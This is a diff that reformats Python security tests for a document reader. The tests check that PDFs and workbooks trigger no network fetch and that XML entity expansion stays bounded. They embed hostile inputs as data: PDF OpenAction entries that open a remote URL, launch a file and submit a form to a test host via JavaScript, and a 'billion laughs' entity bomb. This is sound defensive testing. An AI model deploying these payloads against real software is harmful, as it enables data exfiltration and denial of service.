@@ -151,9 +151,12 @@ def test_a_pdf_fetches_nothing(tmp_path, asked, secret):
     page.linkURL(f"{at}/u", (0, 0, 600, 800))
     page.save()
     opened = f"/Type /Catalog /OpenAction << /S /GoToR /F << /FS /URL /F ({at}/g) >> /D [0 /Fit] >>"
-    for more in (opened, f"/Type /Catalog /OpenAction << /S /URI /URI ({at}/o) >>",
-                 f"/Type /Catalog /OpenAction << /S /Launch /F ({secret}) >>",
-                 f"/Type /Catalog /OpenAction << /S /JavaScript /JS (this.submitForm\\('{at}/j'\\)) >>"):
+    for more in (
+        opened,
+        f"/Type /Catalog /OpenAction << /S /URI /URI ({at}/o) >>",
+        f"/Type /Catalog /OpenAction << /S /Launch /F ({secret}) >>",
+        f"/Type /Catalog /OpenAction << /S /JavaScript /JS (this.submitForm\\('{at}/j'\\)) >>",
+    ):
         text = read(tmp_path, "a.pdf", out.getvalue().replace(b"/Type /Catalog", more.encode()))
         assert "8000" in text and SECRET not in text
     assert len(asked) == 1
@@ -196,9 +199,11 @@ def test_a_workbook_fetches_nothing(tmp_path, asked, secret):
     assert len(asked) == 1
 
 
-LAUGHS = '"ha">' + "".join(
-    f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "&e;" * 10}">' for n in range(9)
-) + '<!ENTITY last "&e8;"'
+LAUGHS = (
+    '"ha">'
+    + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "&e;" * 10}">' for n in range(9))
+    + '<!ENTITY last "&e8;"'
+)
 
 
 def test_entities_do_not_multiply(tmp_path):
